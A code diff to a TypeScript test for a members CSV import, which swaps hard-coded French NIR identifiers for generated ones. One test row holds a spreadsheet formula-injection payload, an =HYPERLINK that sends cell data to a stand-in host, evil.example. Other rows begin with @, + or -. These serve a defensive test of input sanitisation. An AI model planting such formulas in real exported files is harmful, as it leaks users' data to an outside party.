@@ -7,9 +7,8 @@ import type { Table } from '../../lambdas/adapters/dynamo/table.ts';
 import { LocalHmacKey } from '../../lambdas/adapters/keys/local-key-files.ts';
 import { nirWindows, weakCodeReason } from '../../lambdas/domain/code-blocklist.ts';
 import { CodeHasher, OWASP_MINIMUM } from '../../lambdas/domain/code-hashing.ts';
-import { nirLookupKey } from '../../lambdas/domain/credential-check.ts';
 import { OperatorInputError } from '../../lambdas/domain/errors.ts';
-import { parseNir } from '../../lambdas/domain/nir.ts';
+import { nirLookupKey, parseNir } from '../../lambdas/domain/nir.ts';
 import { importMembersFile } from '../../lambdas/ops/import-members.ts';
 import { uniqueNir } from '../support/members.ts';
 import { prepareTestEnvironment } from '../support/test-environment.ts';
@@ -126,10 +125,10 @@ describe('import-members', () => {
     const report = await importMembersFile(
       await csv([
         HEADER,
-        '295109912611193,"=HYPERLINK(""https://evil.example/?x=""&I2,""Cliquez"")",Claire,,1 rue,,75001,Paris,,,469135',
-        '253072A07300443,Santoni,@Marie,,1 rue,,75001,Paris,,,469135',
-        '184057512345625,Martin,Jean,,+33 rue,,75001,Paris,,,469135',
-        '299017512345677,Petit,Anne,,1 rue,-,75001,Paris,,,469135',
+        `${uniqueNir()},"=HYPERLINK(""https://evil.example/?x=""&I2,""Cliquez"")",Claire,,1 rue,,75001,Paris,,,469135`,
+        `${uniqueNir()},Santoni,@Marie,,1 rue,,75001,Paris,,,469135`,
+        `${uniqueNir()},Martin,Jean,,+33 rue,,75001,Paris,,,469135`,
+        `${uniqueNir()},Petit,Anne,,1 rue,-,75001,Paris,,,469135`,
       ]),
       deps(),
       out,
